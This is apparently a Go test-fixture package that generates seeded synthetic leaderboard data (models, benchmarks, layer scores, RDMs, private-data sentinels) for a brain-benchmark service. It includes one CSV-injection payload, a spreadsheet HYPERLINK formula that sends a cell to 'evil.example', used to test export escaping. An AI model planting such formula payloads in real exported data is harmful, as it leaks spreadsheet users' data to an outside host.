// Package lbtest builds synthetic leaderboard sources for tests, load tests
// and demos: seeded, so the same arguments give the same data.
package lbtest

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"time"

	"github.com/cortexbench/cortexbench/leaderboard"
	"github.com/cortexbench/cortexbench/scoring"
)

// Sentinel values planted in the private benchmark's RDMs by Synthetic, so a
// test can check they never leave the server.
const (
	PrivateBrainSentinel = 0.7777123
	PrivateModelSentinel = 0.6666123
)

// Hash returns the fake sha256 of a model name.
func Hash(name string) string {
	s := sha256.Sum256([]byte(name))
	return hex.EncodeToString(s[:])
}

// Synthetic returns a source with nModels models and nBench benchmarks over
// regions V1, V4, IT, the last benchmark private, every score with a
// per-layer profile, and RDMs (n = rdmN stimuli) for every (model,
// benchmark) pair when rdmN > 0. Every 7th model misses one benchmark.
func Synthetic(nModels, nBench, rdmN int, seed uint64) *leaderboard.MemSource {
	rng := rand.New(rand.NewPCG(seed, 0x1eade7))
	regions := []string{"V1", "V4", "IT"}
	species := []string{"macaque", "human"}
	methods := []string{"ephys", "fmri"}
	families := []string{"resnet", "vit", "alexnet", "convnext"}
	var bs []leaderboard.BenchmarkInfo
	for i := range nBench {
		r := regions[i%len(regions)]
		b := leaderboard.BenchmarkInfo{
			ID: fmt.Sprintf("bench%02d.%s", i, r), Version: fmt.Sprintf("v%d", i+1),
			Region: r, Parent: r, Species: species[i%2], Method: methods[(i/2)%2],
			Ceiling: 0.5 + 0.4*rng.Float64(), StimulusCount: 50 + 10*i,
			Citation: fmt.Sprintf("Author %d et al. (2020)", i),
		}
		if i == nBench-1 {
			b.Private = true
			b.ID = fmt.Sprintf("private%02d.%s", i, r)
		}
		bs = append(bs, b)
	}
	var ms []leaderboard.ModelInfo
	var ss []scoring.Score
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range nModels {
		name := fmt.Sprintf("%s-%03d", families[i%len(families)], i)
		m := leaderboard.ModelInfo{Hash: Hash(name), Name: name, Family: families[i%len(families)],
			Version: "1", TrainingData: "ImageNet-1k", Params: int64(1e6 * (1 + rng.IntN(100)))}
		ms = append(ms, m)
		skill := rng.Float64()
		for j, b := range bs {
			if i%7 == 6 && j == i%len(bs) {
				continue
			}
			nl := 8
			var layers []scoring.LayerScore
			best, bestL := math.Inf(-1), 0
			peak := 0.3 + 0.6*rng.Float64()
			for l := range nl {
				d := float64(l) / float64(nl-1)
				raw := b.Ceiling * (0.2 + 0.6*skill) * math.Exp(-4*(d-peak)*(d-peak))
				layers = append(layers, scoring.LayerScore{Layer: fmt.Sprintf("L%03d.Conv", l), Depth: d,
					Raw: raw, Ceiled: raw / b.Ceiling, SE: 0.01 + 0.02*rng.Float64()})
				if raw > best {
					best, bestL = raw, l
				}
			}
			raw := best * (0.9 + 0.1*rng.Float64())
			se := 0.005 + 0.02*rng.Float64()
			ss = append(ss, scoring.Score{
				ModelHash: m.Hash, ModelName: name, BenchmarkID: b.ID, BenchmarkVersion: b.Version,
				ScorerVersion: scoring.ScorerVersion, Raw: raw, Ceiling: b.Ceiling, Ceiled: raw / b.Ceiling,
				SE: se, CILow: raw - 2*se, CIHigh: raw + 2*se, Layer: layers[bestL].Layer,
				Selection: "held-out splits", Candidates: "all-but-output", Layers: layers, Seed: 1,
				CreatedAt: t0.Add(time.Duration(i) * time.Minute),
			})
		}
	}
	src := leaderboard.NewMemSource(ms, bs, ss)
	if rdmN > 0 {
		np := rdmN * (rdmN - 1) / 2
		for _, b := range bs {
			brain := make([]float64, np)
			for k := range brain {
				brain[k] = 0.5 + 0.5*rng.Float64()
			}
			if b.Private {
				brain[0] = PrivateBrainSentinel
			}
			src.SetBrainRDM(b.ID, rdmN, brain)
			for _, m := range ms {
				mr := make([]float64, np)
				for k := range mr {
					mr[k] = brain[k]*0.5 + 0.5*rng.Float64()
				}
				if b.Private {
					mr[0] = PrivateModelSentinel
				}
				src.SetModelRDM(m.Hash, b.ID, rdmN, mr)
			}
		}
	}
	return src
}

// EvilName is a model name a spreadsheet would run as a formula (CSV
// injection); WithEvilModel gives it to the first synthetic model.
const EvilName = `=HYPERLINK("http://evil.example/?leak="&A2,"click")`

// WithEvilModel is Synthetic(nModels, nBench, 0, seed) with the first
// model named EvilName, its family "-cmd", and its first score negative
// (a legitimate numeric cell that must stay a number in CSV exports).
func WithEvilModel(nModels, nBench int, seed uint64) *leaderboard.MemSource {
	src := Synthetic(nModels, nBench, 0, seed)
	ms, _ := src.Models(context.Background())
	bs, _ := src.Benchmarks(context.Background())
	ss, _ := src.Scores(context.Background())
	ms = slices.Clone(ms)
	ss = slices.Clone(ss)
	ms[0].Name, ms[0].Family = EvilName, "-cmd"
	for i := range ss {
		if ss[i].ModelHash == ms[0].Hash {
			ss[i].ModelName = EvilName
		}
	}
	for i := range ss {
		if ss[i].ModelHash == ms[0].Hash {
			ss[i].Raw, ss[i].Ceiled = -0.25, -0.25/ss[i].Ceiling
			break
		}
	}
	return leaderboard.NewMemSource(ms, bs, ss)
}
